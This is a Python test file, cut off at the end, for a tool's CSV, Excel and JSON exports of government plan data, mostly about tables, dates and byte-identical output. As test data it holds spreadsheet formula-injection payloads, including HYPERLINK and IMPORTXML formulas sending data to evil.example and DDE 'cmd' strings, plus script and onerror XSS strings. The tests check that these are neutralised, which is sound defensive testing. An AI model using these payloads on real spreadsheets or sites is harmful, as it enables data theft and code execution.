"""`tiendo export` and the site's downloads: every table in words beside its ids, real dates and numbers,
every text of the reports, no text ever a formula, and the same bytes for the same data."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import tempfile
import zipfile
from datetime import date, datetime
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
import yaml
from conftest import EXAMPLE, FIXTURES, TODAY, built, libreoffice, tiendo, write
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from generator.check import check
from generator.data.problems import has_errors
from generator.outputs.export import CUT_NOTE, csv_text, export_names, write_tables
from generator.outputs.tables import DATE, NUMBER, WORDS, Column, Table, tables
from generator.outputs.xlsx import CELL_LIMIT
from generator.stats.engine import compute_all

TABLES = ["plans", "tasks", "extensions", "reports", "entries", "documents", "values", "states", "statistics",
          "indicators"]
SHEETS = ["Kế hoạch", "Nhiệm vụ", "Gia hạn", "Báo cáo", "Kết quả từng nhiệm vụ", "Văn bản",
          "Số liệu chỉ tiêu báo cáo", "Tình trạng từng kỳ", "Thống kê", "Chỉ tiêu"]


def export(root: Path, out: Path) -> Path:
    result = tiendo("export", "--data", str(root), "--out", str(out), cwd=root.parent)
    assert result.returncode == 0, result.stderr
    return out


def csv_rows(out: Path, name: str) -> list[dict]:
    text = (out / f"tiendo-{name}.csv").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def excel_strings(path: Path) -> list[str]:
    """The workbook's texts as Excel shows them, in the order written: shared strings, then the inline
    strings of each sheet (tiendo streams its workbook with inline strings). `_xHHHH_` is Excel's escape of
    one character; openpyxl undoes it only in shared strings, so its values cannot show this."""
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(path) as book:
        parts = [name for name in book.namelist() if name == "xl/sharedStrings.xml"]
        parts += sorted((n for n in book.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)),
                        key=lambda n: int(re.search(r"\d+", n).group()))
        roots = [ElementTree.fromstring(book.read(name)) for name in parts]
    texts = [item.text or "" for root in roots for item in root.iter(f"{main}t")]
    return [re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text) for text in texts]


def sheet_rows(out: Path, sheet: str) -> list[dict]:
    """The sheet's rows keyed by the field name written in brackets under each header label."""
    rows = openpyxl.load_workbook(out / "tiendo.xlsx")[sheet].iter_rows()
    keys = [re.search(r"\((\w+)\)$", cell.value).group(1) for cell in next(rows)]
    return [{k: cell for k, cell in zip(keys, row, strict=True)} for row in rows]


def load_yaml(root: Path, relative: str) -> dict:
    return yaml.safe_load((root / relative).read_text(encoding="utf-8"))


def dump_yaml(root: Path, relative: str, content: dict) -> None:
    write(root, relative, yaml.safe_dump(content, allow_unicode=True, sort_keys=False, width=10**6))


# --- files ---------------------------------------------------------------------------


def test_export_writes_a_csv_per_table_with_bom_one_sheet_each_and_every_table_in_json(tmp_path):
    out = export(EXAMPLE, tmp_path / "out")
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["tiendo.xlsx", "tiendo.json", *(f"tiendo-{name}.csv" for name in TABLES)])
    assert (out / "tiendo-entries.csv").read_bytes().startswith(b"\xef\xbb\xbfplan,period,period_label,agency,")
    workbook = openpyxl.load_workbook(out / "tiendo.xlsx")
    assert workbook.sheetnames == SHEETS
    header = workbook["Thống kê"]["A1"]
    assert header.font.bold and header.value == "Kế hoạch\n(plan)" and header.alignment.wrap_text
    assert all(sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:") for sheet in workbook)
    payload = json.loads((out / "tiendo.json").read_text(encoding="utf-8"))
    assert list(payload) == TABLES
    for name in TABLES:
        assert len(payload[name]) == len(csv_rows(out, name)) == workbook[SHEETS[TABLES.index(name)]].max_row - 1
    totals = [r for r in payload["statistics"] if r["scope"] == "totals" and r["period"] == "2019-Q1"]
    assert totals[0]["weighted_progress"] == 74.4 and totals[0]["period_label"] == "Quý I/2019"
    reports = sorted((EXAMPLE / "updates").rglob("*.yaml"))
    assert len(payload["reports"]) == len(reports) and len(payload["tasks"]) == 37


def test_the_same_data_gives_the_same_bytes(tmp_path):
    first, second = export(EXAMPLE, tmp_path / "a"), export(EXAMPLE, tmp_path / "b")
    for path in first.iterdir():
        assert path.read_bytes() == (second / path.name).read_bytes(), path.name


def test_nothing_but_the_downloads_is_left_in_the_folder(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "tiendo.xlsx").write_bytes(b"old")
    export(EXAMPLE, out)
    assert not [p.name for p in out.iterdir() if p.name.startswith(".")]
    assert openpyxl.load_workbook(out / "tiendo.xlsx").sheetnames == SHEETS


def test_a_folder_that_cannot_be_written_is_a_clear_error(base_data, tmp_path):
    (tmp_path / "taken").write_text("not a folder", encoding="utf-8")
    result = tiendo("export", "--data", str(base_data), "--out", str(tmp_path / "taken"), cwd=base_data.parent)
    assert result.returncode == 2
    assert f"Không ghi được các tệp tải về vào {tmp_path / 'taken'}: File exists." in result.stderr
    assert "Traceback" not in result.stderr


# --- in words -----------------------------------------------------------------------


def test_tasks_carry_group_titles_agency_names_and_the_due_as_a_date_and_in_words(base_data, tmp_path):
    out = export(base_data, tmp_path / "out")
    rows = {r["task"]: r for r in csv_rows(out, "tasks")}
    assert {k: rows["1.1"][k] for k in ("group", "group_title", "lead", "lead_name", "support", "support_names")} == {
        "group": "1", "group_title": "Chính trị, tư tưởng", "lead": "cong-an", "lead_name": "Công an thành phố",
        "support": "vks", "support_names": "Viện Kiểm sát nhân dân thành phố"}
    assert [(rows[t]["due"], rows[t]["due_label"], rows[t]["recurring"]) for t in ("1.1", "1.2", "2.1")] == [
        ("2019-06-30", "30/06/2019", "False"), ("", "Thường xuyên", "True"), ("2019-12-31", "Quý IV/2019", "False")]
    assert rows["1.1"]["indicator_names"] == "Số vụ chuyển cơ quan điều tra (vụ); Tỷ lệ giải quyết (%)"
    assert rows["2.1"]["support_names"] == "Công an thành phố, Viện Kiểm sát nhân dân thành phố"


def test_entries_carry_names_period_names_role_and_status_in_words_and_document_titles(base_data, tmp_path):
    out = export(base_data, tmp_path / "out")
    rows = {(r["agency"], r["period"], r["task"]): r for r in csv_rows(out, "entries")}
    first = rows[("cong-an", "2019-Q1", "1.1")]
    assert {k: first[k] for k in ("period_label", "agency_name", "task_title", "role", "role_label", "status",
                                  "status_label", "progress", "due")} == {
        "period_label": "Quý I/2019", "agency_name": "Công an thành phố",
        "task_title": "Thanh tra đất đai, xây dựng cơ bản", "role": "lead", "role_label": "Chủ trì",
        "status": "in_progress", "status_label": "Đang thực hiện", "progress": "40", "due": "2019-06-30"}
    supporting = rows[("vks", "2019-Q1", "1.1")]
    assert (supporting["role_label"], supporting["status"], supporting["status_label"]) == ("Phối hợp", "", "")
    assert rows[("cong-an", "2019-Q2", "1.1")]["documents"] == (
        "45/BC-CAT ngày 12/06/2019: Báo cáo kết quả thanh tra (https://example.gov.vn/45-bc-cat)")
    assert "indicators" not in first  # the values have rows of their own


def test_indicator_values_have_rows_of_their_own_with_name_and_unit(base_data, tmp_path):
    out = export(base_data, tmp_path / "out")
    values = [(r["period"], r["agency"], r["indicator"], r["name"], r["unit"], r["value"])
              for r in csv_rows(out, "values")]
    assert values == [
        ("2019-Q1", "cong-an", "so-vu", "Số vụ chuyển cơ quan điều tra", "vụ", "2"),
        ("2019-Q1", "cong-an", "ty-le", "Tỷ lệ giải quyết", "%", "60"),
        ("2019-Q1", "vks", "so-vu", "Số vụ chuyển cơ quan điều tra", "vụ", "1"),
        ("2019-Q2", "cong-an", "so-vu", "Số vụ chuyển cơ quan điều tra", "vụ", "3"),
        ("2019-Q2", "cong-an", "ty-le", "Tỷ lệ giải quyết", "%", "85.5"),
    ]
    figures = {(r["period"], r["indicator"]): (r["reported"], r["value"], r["aggregate_label"])
               for r in csv_rows(out, "indicators")}
    assert figures[("2019-Q2", "so-vu")] == ("3", "6", "Cộng dồn các kỳ")
    assert figures[("2019-Q3", "ty-le")] == ("", "85.5", "Số mới nhất của cơ quan chủ trì")


def test_statistics_name_each_group_and_agency_and_say_how_each_report_was_sent(base_data, tmp_path):
    out = export(base_data, tmp_path / "out")
    rows = {(r["period"], r["scope"], r["id"]): r for r in csv_rows(out, "statistics")}
    assert rows[("2019-Q1", "totals", "")]["scope_label"] == "Toàn kế hoạch"
    assert rows[("2019-Q1", "group", "2")]["name"] == "Cơ chế, chính sách"
    agency = rows[("2019-Q2", "agency", "cong-an")]
    assert (agency["name"], agency["submitted_on"], agency["on_time"], agency["submission"]) == (
        "Công an thành phố", "2019-06-25", "False", "trễ hạn")
    assert rows[("2019-Q2", "agency", "vks")]["submission"] == "chưa gửi"


def test_xlsx_cells_are_real_dates_numbers_and_true_false(base_data, tmp_path):
    out = export(base_data, tmp_path / "out")
    tasks = {r["task"].value: r for r in sheet_rows(out, "Nhiệm vụ")}
    due = tasks["1.1"]["due"]
    assert due.value == datetime(2019, 6, 30) and due.number_format == "dd/mm/yyyy"
    assert (tasks["1.1"]["weight"].value, tasks["1.1"]["weight"].data_type) == (2, "n")
    assert (tasks["1.2"]["recurring"].value, tasks["1.2"]["due"].value) == (True, None)
    entries = sheet_rows(out, "Kết quả từng nhiệm vụ")
    assert [(r["progress"].value, r["progress"].data_type) for r in entries if r["progress"].value is not None] == [
        (40, "n")]
    statistics = sheet_rows(out, "Thống kê")
    assert statistics[0]["completion_rate"].data_type == "n"
    assert statistics[0]["reference_date"].value == datetime(2019, 3, 14)


# --- every text of the reports --------------------------------------------------------


def test_reports_table_has_one_row_per_report_file_with_every_report_field(base_data, tmp_path):
    report = load_yaml(base_data, "updates/kh-mau/cong-an/2019-Q1.yaml")
    report |= {"obstacles": "Thiếu **cán bộ**.", "proposals": "Bổ sung biên chế.",
               "revisions": [{"date": date(2019, 4, 2), "reason": "Bổ sung số liệu"},
                             {"date": date(2019, 4, 9), "reason": "Sửa tiến độ"}]}
    dump_yaml(base_data, "updates/kh-mau/cong-an/2019-Q1.yaml", report)
    out = export(base_data, tmp_path / "out")
    rows = csv_rows(out, "reports")
    assert [(r["period"], r["agency"]) for r in rows] == [("2019-Q1", "cong-an"), ("2019-Q1", "vks"),
                                                          ("2019-Q2", "cong-an")]
    assert rows[0] == {
        "plan": "kh-mau", "period": "2019-Q1", "period_label": "Quý I/2019", "agency": "cong-an",
        "agency_name": "Công an thành phố", "file": "updates/kh-mau/cong-an/2019-Q1.yaml", "as_of": "2019-03-14",
        "submitted_on": "2019-03-18", "submission_due": "2019-03-20", "on_time": "True", "submission": "đúng hạn",
        "reporter": "Phòng Tham mưu", "summary": "Hoàn thành các nhiệm vụ trong quý.", "obstacles": "Thiếu **cán bộ**.",
        "proposals": "Bổ sung biên chế.", "revisions": "02/04/2019: Bổ sung số liệu\n09/04/2019: Sửa tiến độ",
        "entries": "2"}
    assert (rows[2]["on_time"], rows[2]["submission"]) == ("False", "trễ hạn")
    sheet = sheet_rows(out, "Báo cáo")
    assert sheet[0]["submitted_on"].value == datetime(2019, 3, 18) and sheet[0]["entries"].value == 2


def test_documents_table_lists_every_document_cited(base_data, tmp_path):
    out = export(base_data, tmp_path / "out")
    assert csv_rows(out, "documents") == [{
        "plan": "kh-mau", "period": "2019-Q2", "period_label": "Quý II/2019", "agency": "cong-an",
        "agency_name": "Công an thành phố", "task": "1.1", "number": "45/BC-CAT", "date": "2019-06-12",
        "title": "Báo cáo kết quả thanh tra", "url": "https://example.gov.vn/45-bc-cat"}]


# --- contract v1.1: assigned tasks and extended deadlines ------------------------------------


@pytest.fixture
def extended_data(base_data: Path) -> Path:
    """Task 1.1 extended twice (decided in Q2 and Q4 2019); task 2.2 given on 2019-05-02."""
    plan = load_yaml(base_data, "plans/kh-mau/plan.yaml")
    plan["tasks"][0]["extensions"] = [
        {"due": date(2019, 9, 30), "decided_on": date(2019, 6, 1), "decision": "12-TB/TU", "reason": "Chờ kết luận"},
        {"due": "2019-Q4", "decided_on": date(2019, 10, 1), "reason": "Bổ sung hồ sơ"}]
    plan["tasks"].append({"id": "2.2", "group": "2", "title": "Sơ kết quy chế", "lead": "vks",
                          "due": date(2019, 12, 31), "assigned": date(2019, 5, 2)})
    dump_yaml(base_data, "plans/kh-mau/plan.yaml", plan)
    return base_data


def test_tasks_show_when_they_were_given_and_how_often_their_deadline_moved(extended_data, tmp_path):
    out = export(extended_data, tmp_path / "out")
    rows = {r["task"]: r for r in csv_rows(out, "tasks")}
    assert (rows["1.1"]["due"], rows["1.1"]["extensions"], rows["1.1"]["current_due"]) == ("2019-06-30", "2",
                                                                                          "2019-12-31")
    assert (rows["2.2"]["assigned"], rows["2.2"]["extensions"], rows["1.2"]["current_due"]) == ("2019-05-02", "0", "")


def test_extensions_table_has_one_row_per_extension_with_the_due_it_replaced(extended_data, tmp_path):
    out = export(extended_data, tmp_path / "out")
    assert [{k: r[k] for k in ("task", "extension", "previous_due", "due", "due_label", "decided_on", "decision",
                               "reason")} for r in csv_rows(out, "extensions")] == [
        {"task": "1.1", "extension": "1", "previous_due": "2019-06-30", "due": "2019-09-30", "due_label": "30/09/2019",
         "decided_on": "2019-06-01", "decision": "12-TB/TU", "reason": "Chờ kết luận"},
        {"task": "1.1", "extension": "2", "previous_due": "2019-09-30", "due": "2019-12-31", "due_label": "Quý IV/2019",
         "decided_on": "2019-10-01", "decision": "", "reason": "Bổ sung hồ sơ"}]
    sheet = sheet_rows(out, "Gia hạn")
    assert sheet[0]["decided_on"].value == datetime(2019, 6, 1) and sheet[0]["decided_on"].number_format == "dd/mm/yyyy"


def test_the_due_at_each_period_follows_the_extensions_decided_by_its_reference_date(extended_data, tmp_path):
    out = export(extended_data, tmp_path / "out")
    dues = {r["period"]: r["due"] for r in csv_rows(out, "states") if r["task"] == "1.1"}
    # R(2019-Q2) = 14/06 is after the first decision (01/06); R(2019-Q4) = 14/12 after the second (01/10)
    assert [dues[p] for p in ("2019-Q1", "2019-Q2", "2019-Q3", "2019-Q4", "2020-Q1")] == [
        "2019-06-30", "2019-09-30", "2019-09-30", "2019-12-31", "2019-12-31"]
    entries = {(r["agency"], r["period"], r["task"]): r["due"] for r in csv_rows(out, "entries")}
    assert entries[("cong-an", "2019-Q1", "1.1")] == "2019-06-30"
    assert entries[("cong-an", "2019-Q2", "1.1")] == "2019-09-30"
    states = [r for r in csv_rows(out, "states") if r["task"] == "1.2"]
    assert {(r["due"], r["category"], r["category_label"]) for r in states} == {("", "recurring", "Thường xuyên")}
    given = {r["period"]: (r["category"], r["category_label"]) for r in csv_rows(out, "states") if r["task"] == "2.2"}
    assert given["2019-Q1"] == ("not_assigned", "Chưa giao")  # given on 02/05/2019, after R(2019-Q1)
    assert given["2019-Q2"] == ("not_reported", "Chưa có báo cáo")


# --- formulas never run ---------------------------------------------------------------


FORMULAS = {
    "agency": '=HYPERLINK("https://evil.example/?d="&B2,"Xem")',
    "title": "+cmd|' /C calc'!A0",
    "summary": "-2+3+cmd|' /C calc'!A0",
    "result": "@SUM(1+1)*cmd|' /C calc'!A0",
    "obstacles": "\t=1+1",
    "reason": "=1+1",
    "document": "=IMPORTXML(CONCAT(\"https://evil.example/?\",A2),\"//a\")",
    "literal": "_x0041_ là 6 ký tự, không phải chữ A",  # Excel's own escape, written as text
}


@pytest.fixture
def formula_data(base_data: Path) -> Path:
    agencies = load_yaml(base_data, "agencies.yaml")
    agencies["agencies"][1]["name"] = FORMULAS["agency"]
    dump_yaml(base_data, "agencies.yaml", agencies)
    plan = load_yaml(base_data, "plans/kh-mau/plan.yaml")
    plan["tasks"][0]["title"] = FORMULAS["title"]
    plan["tasks"][0]["extensions"] = [{"due": date(2019, 9, 30), "decided_on": date(2019, 6, 1),
                                       "reason": FORMULAS["reason"]}]
    dump_yaml(base_data, "plans/kh-mau/plan.yaml", plan)
    report = load_yaml(base_data, "updates/kh-mau/cong-an/2019-Q1.yaml")
    report["summary"] = FORMULAS["summary"]
    report["reporter"] = FORMULAS["literal"]
    report["entries"][0] |= {"result": FORMULAS["result"], "obstacles": FORMULAS["obstacles"],
                             "documents": [{"number": FORMULAS["document"], "title": FORMULAS["document"]}]}
    dump_yaml(base_data, "updates/kh-mau/cong-an/2019-Q1.yaml", report)
    _, problems = check(base_data, TODAY)
    assert not [p for p in problems if p.is_error]
    return base_data


def test_no_text_becomes_a_formula_in_the_workbook(formula_data, tmp_path):
    out = export(formula_data, tmp_path / "out")
    workbook = openpyxl.load_workbook(out / "tiendo.xlsx")
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert set(FORMULAS.values()) <= set(excel_strings(out / "tiendo.xlsx"))


def test_csv_text_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(formula_data, tmp_path):
    out = export(formula_data, tmp_path / "out")
    cells = {value for name in TABLES for row in csv_rows(out, name) for value in row.values()}
    assert {"'" + text for key, text in FORMULAS.items() if key != "literal"} | {FORMULAS["literal"]} <= cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    raw = (out / "tiendo-tasks.csv").read_bytes().decode("utf-8-sig")
    assert "\nkh-mau,1.1,1,\"Chính trị, tư tưởng\",'+cmd|' /C calc'!A0,cong-an," in raw
    payload = json.loads((out / "tiendo.json").read_text(encoding="utf-8"))  # JSON keeps the text as written
    assert payload["tasks"][0]["title"] == FORMULAS["title"]


@pytest.mark.parametrize(("value", "column", "written"), [
    ("=1+1", WORDS, "'=1+1"),
    ("-5 vụ", WORDS, "'-5 vụ"),
    ("@x", WORDS, "'@x"),
    ("\r=1", WORDS, "'\r=1"),
    ("a=1", WORDS, "a=1"),
    (" =1", WORDS, " =1"),
    (-5, NUMBER, "-5"),
    (-2.5, NUMBER, "-2.5"),
    (date(2019, 3, 14), DATE, "2019-03-14"),
])
def test_only_text_cells_are_prefixed_never_numbers(value, column, written):
    table = Table("t", "T", (Column("x", column, "X"),), [(value,)])
    assert list(csv.reader(io.StringIO(csv_text(table), newline="")))[1] == [written]


CALC = Path("/usr/lib/libreoffice/program/libsclo.so")  # Debian's libreoffice-calc-nogui


@pytest.mark.office
@pytest.mark.skipif(not CALC.is_file(), reason="LibreOffice Calc is missing (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_runs_no_formula_from_the_downloads(formula_data, tmp_path):
    """LibreOffice opens the workbook and the CSV files: no cell is a formula, and Excel's escapes are read
    back as the text written. The control, an unprefixed CSV written here, shows LibreOffice would run one."""
    out = export(formula_data, tmp_path / "out")
    control = tmp_path / "control.csv"
    control.write_text(f'text\n"{FORMULAS["reason"]}"\n', encoding="utf-8")
    converted = tmp_path / "converted"
    libreoffice("xlsx", out / "tiendo.xlsx", out / "tiendo-tasks.csv", out / "tiendo-entries.csv", control,
                out=converted, work=tmp_path)
    formulas = {}
    for path in converted.glob("*.xlsx"):
        workbook = openpyxl.load_workbook(path)
        formulas[path.stem] = [c.value for sheet in workbook for row in sheet.iter_rows() for c in row
                               if c.data_type == "f" and c.value not in ("=TRUE()", "=FALSE()")]  # LibreOffice's true
    assert formulas == {"tiendo": [], "tiendo-tasks": [], "tiendo-entries": [], "control": ["=1+1"]}
    shown = excel_strings(converted / "tiendo.xlsx")
    assert set(FORMULAS.values()) | {FORMULAS["literal"]} <= set(shown)


# --- texts Excel cannot hold as they are ------------------------------------------------


def test_a_text_longer_than_an_excel_cell_is_cut_there_with_a_note_and_kept_whole_elsewhere(base_data, tmp_path):
    long = "Kết quả rất dài 😀 " * 2500  # 47.500 characters, 50.000 UTF-16 units
    report = load_yaml(base_data, "updates/kh-mau/cong-an/2019-Q1.yaml")
    report["summary"] = long
    dump_yaml(base_data, "updates/kh-mau/cong-an/2019-Q1.yaml", report)
    out = export(base_data, tmp_path / "out")
    cell = sheet_rows(out, "Báo cáo")[0]["summary"].value
    note = CUT_NOTE.format(table="reports")
    assert cell.endswith(note) and long.startswith(cell.removesuffix(note))
    assert len(cell.encode("utf-16-le")) // 2 <= CELL_LIMIT
    assert len(cell.encode("utf-16-le")) // 2 > CELL_LIMIT - len(note) - 2
    assert csv_rows(out, "reports")[0]["summary"] == long
    assert json.loads((out / "tiendo.json").read_text(encoding="utf-8"))["reports"][0]["summary"] == long


@pytest.mark.parametrize("text", ["_x0041_ giữ nguyên", "a & b < c > d", "x\x01y", "đ\r\nx", "]]> <![CDATA[",
                                  "e\u0301\u0323 😀 עברית"])
def test_texts_reach_the_workbook_as_written(text, tmp_path):
    table = Table("t", "Bảng", (Column("x", WORDS, "X"),), [(text,)])
    write_tables({"t": table}, tmp_path)
    assert openpyxl.load_workbook(tmp_path / "tiendo.xlsx")["Bảng"]["A2"].data_type == "s"
    assert excel_strings(tmp_path / "tiendo.xlsx") == ["X\n(x)", text]


def test_states_hold_every_task_at_every_period_as_the_statistics_count_them(tmp_path):
    data, _ = check(EXAMPLE, TODAY)
    timelines = compute_all(data)
    found = tables(data, list(timelines.values()))
    timeline = timelines["kh-17-tu"]
    states = found["states"].records()
    assert len(states) == len(timeline.periods) * len(timeline.plan.plan.tasks)
    at = [r for r in states if r["period"] == "2019-Q1"]
    totals = timeline.at("2019-Q1").totals
    for category in ("completed_on_time", "completed_late", "overdue", "in_progress", "not_started", "not_reported"):
        assert sum(r["category"] == category for r in at) == totals.count(category), category


def test_plans_table_names_each_plan_its_owner_and_its_reporting_cycle(base_data, tmp_path):
    out = export(base_data, tmp_path / "out")
    assert csv_rows(out, "plans") == [{
        "plan": "kh-mau", "code": "01-KH/TU", "title": "Kế hoạch mẫu cho kiểm thử",
        "issued_by": "Ban Thường vụ Thành ủy", "issued_on": "2018-12-20", "owner": "ban-noi-chinh",
        "owner_name": "Ban Nội chính", "start": "2019-01-01", "end": "2020-12-31", "cycle": "quarter",
        "cycle_label": "Theo quý", "tasks": "3", "reports": "3"}]


# --- valid data never breaks the downloads nor the site ----------------------------------------

PIECES = [
    '=HYPERLINK("https://evil.example/?"&B2,"Xem")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1)", "\t=1", "=",
    '<script>alert("tiendo")</script>', '<img src=x onerror=alert("tiendo")>', "**đậm** _nghiêng_", "# Tiêu đề",
    "[x](javascript:alert(1))", "| a | b |\n|---|---|", "{{ x }}", "{% raw %}", "{#", "%s %(x)s %", "\\", "\\n",
    '"', "'", "`", "<!--", "]]>", "&amp;", "_x0041_", "Nghị quyết Trung ương 4 (khóa XII)", "e\u0301\u0323ơ\u0309",
    "😀👍🏽", "עברית", "العربية", "x" * 200, "\n", "\n\n- a\n- b", "  ", ":", "- ", "? ", "*", "&a", "!!str",
]
hostile = st.lists(st.one_of(st.sampled_from(PIECES), st.text(st.characters(exclude_categories=("Cs", "Cc", "Cf",
                                                                                                   "Zl", "Zp")),
                                                                   min_size=1, max_size=8)),
                   min_size=1, max_size=3).map("".join).filter(lambda text: text.strip())
# every free text of the three file kinds that the base plan has
TEXT_FIELDS = [
    ("agencies.yaml", ("agencies", 0, "name")), ("agencies.yaml", ("agencies", 1, "name")),
    ("agencies.yaml", ("agencies", 2, "name")), ("agencies.yaml", ("agencies", 1, "short_name")),
    ("plans/kh-mau/plan.yaml", ("code",)), ("plans/kh-mau/plan.yaml", ("title",)),
    ("plans/kh-mau/plan.yaml", ("issued_by",)), ("plans/kh-mau/plan.yaml", ("groups", 0, "title")),
    ("plans/kh-mau/plan.yaml", ("tasks", 0, "title")), ("plans/kh-mau/plan.yaml", ("tasks", 2, "title")),
    ("plans/kh-mau/plan.yaml", ("tasks", 0, "indicators", 0, "name")),
    ("plans/kh-mau/plan.yaml", ("tasks", 0, "indicators", 0, "unit")),
    ("plans/kh-mau/plan.yaml", ("tasks", 0, "extensions", 0, "decision")),
    ("plans/kh-mau/plan.yaml", ("tasks", 0, "extensions", 0, "reason")),
    ("plans/kh-mau/plan.yaml", ("report", "issuer")), ("plans/kh-mau/plan.yaml", ("report", "symbol")),
    ("plans/kh-mau/plan.yaml", ("report", "place")), ("plans/kh-mau/plan.yaml", ("report", "recipients", 0)),
    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("reporter",)), ("updates/kh-mau/cong-an/2019-Q1.yaml", ("summary",)),
    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("obstacles",)), ("updates/kh-mau/cong-an/2019-Q1.yaml", ("proposals",)),
    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("revisions", 0, "reason")),
    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("entries", 0, "result")),
    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("entries", 0, "obstacles")),
    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("entries", 0, "proposals")),
    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("entries", 0, "documents", 0, "number")),
    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("entries", 0, "documents", 0, "title")),
    ("updates/kh-mau/vks/2019-Q1.yaml", ("entries", 1, "result")),
]
# what the downloads do not carry: short names and the compiled report's header
NOT_EXPORTED = {("agencies", 1, "short_name"), *((("report", *rest)) for rest in
                                                  (("issuer",), ("symbol",), ("place",), ("recipients", 0)))}


def hostile_data(root: Path, texts: list[str]) -> None:
    """The base plan with a text of `texts` in every free-text field (and the containers they need)."""
    shutil.copytree(FIXTURES / "base", root)
    files = {name: load_yaml(root, name) for name, _ in TEXT_FIELDS}
    plan = files["plans/kh-mau/plan.yaml"]
    plan["tasks"][0]["extensions"] = [{"due": date(2019, 9, 30), "decided_on": date(2019, 6, 1)}]
    plan["report"] = {"issuer": "x", "symbol": "x", "place": "x", "recipients": ["x"]}
    report = files["updates/kh-mau/cong-an/2019-Q1.yaml"]
    report["revisions"] = [{"date": date(2019, 4, 2), "reason": "x"}]
    report["entries"][0]["documents"] = [{"number": "x"}]
    for (name, path), text in zip(TEXT_FIELDS, texts, strict=True):
        node = files[name]
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = text
    for name, content in files.items():
        dump_yaml(root, name, content)


def exported_texts(data) -> list[str]:
    """The model's value of every exported text field, as read (what the downloads must carry)."""
    found = []
    for name, path in TEXT_FIELDS:
        if path in NOT_EXPORTED:
            continue
        node = {"agencies.yaml": data.agencies_file.model, "plans/kh-mau/plan.yaml": data.plans["kh-mau"].plan}.get(
            name) or next(u.model for u in data.updates if u.path.relative == f"updates/{name.split('/', 1)[1]}")
        for key in path:
            node = node[key] if isinstance(key, int) else getattr(node, key)
        found.append(node)
    return found


def assert_downloads_carry_every_text(data, out: Path) -> None:
    found = tables(data, list(compute_all(data).values()))
    write_tables(found, out)
    payload = json.loads((out / "tiendo.json").read_text(encoding="utf-8"))
    blob = "\n".join(str(v) for rows in payload.values() for row in rows for v in row.values())
    for text in exported_texts(data):
        assert text in blob, text
    workbook = openpyxl.load_workbook(out / "tiendo.xlsx")
    assert not [(s.title, c.coordinate) for s in workbook for row in s.iter_rows() for c in row if c.data_type == "f"]
    shown = set(excel_strings(out / "tiendo.xlsx"))
    for name, table in found.items():
        assert payload[name] == json.loads(json.dumps(table.records(), default=str)), name
        rows = csv_rows(out, name)
        for record, row in zip(table.records(), rows, strict=True):
            for key, value in record.items():
                if isinstance(value, str):
                    assert row[key] == ("'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value)
                    assert value in shown or len(value) > CELL_LIMIT // 2, (name, key)


class _Live(HTMLParser):
    """The data's markup that a browser would run: an `on…` attribute, a `javascript:` link, a script of ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        self._script = tag == "script"
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value}>")

    def handle_data(self, data):
        if self._script and 'alert("tiendo")' in data:
            self.found.append(data)

    def handle_endtag(self, tag):
        self._script = False


def live_markup(markup: str) -> list[str]:
    parser = _Live()
    parser.feed(markup)
    return parser.found


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(hostile, min_size=len(TEXT_FIELDS), max_size=len(TEXT_FIELDS)))
def test_valid_data_with_any_text_exports_every_text_safely(texts):
    with tempfile.TemporaryDirectory() as work:
        root = Path(work) / "data"
        hostile_data(root, texts)
        data, problems = check(root, TODAY)
        assume(not has_errors(problems))
        assert_downloads_carry_every_text(data, Path(work) / "out")


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(hostile, min_size=len(TEXT_FIELDS), max_size=len(TEXT_FIELDS)))
def test_valid_data_with_any_text_builds_the_site_with_the_texts_escaped(texts):
    with tempfile.TemporaryDirectory() as work:
        root = Path(work) / "data"
        hostile_data(root, texts)
        data, problems = check(root, TODAY)
        assume(not has_errors(problems))
        site = built(root, Path(work))
        for path in site.rglob("*.html"):
            assert live_markup(path.read_text(encoding="utf-8")) == [], path
        task = (site / "nhiem-vu" / "1.1" / "index.html").read_text(encoding="utf-8")
        title = data.plans["kh-mau"].plan.tasks[0].title
        shown = html.unescape(re.sub(r"<[^>]+>", " ", task))  # the page's text: tags out, entities read
        assert " ".join(title.split()) in " ".join(shown.split())
        assert (site / "tai-ve" / "tiendo.xlsx").is_file()


def test_the_downloads_page_describes_every_file():
    from generator.vocabulary import DOWNLOAD_DESCRIPTIONS

    data, _ = check(EXAMPLE, TODAY)
    names = export_names(tables(data, list(compute_all(data).values())))
    assert list(DOWNLOAD_DESCRIPTIONS) == names


@pytest.mark.parametrize("name", ["", "a" * 32, "Kỳ 1/2019", "a[b]", "x?"])
def test_a_sheet_name_excel_refuses_is_refused_before_anything_is_written(name, tmp_path):
    from generator.outputs.xlsx import Sheet, write_workbook

    with pytest.raises(ValueError, match="cannot name a sheet"):
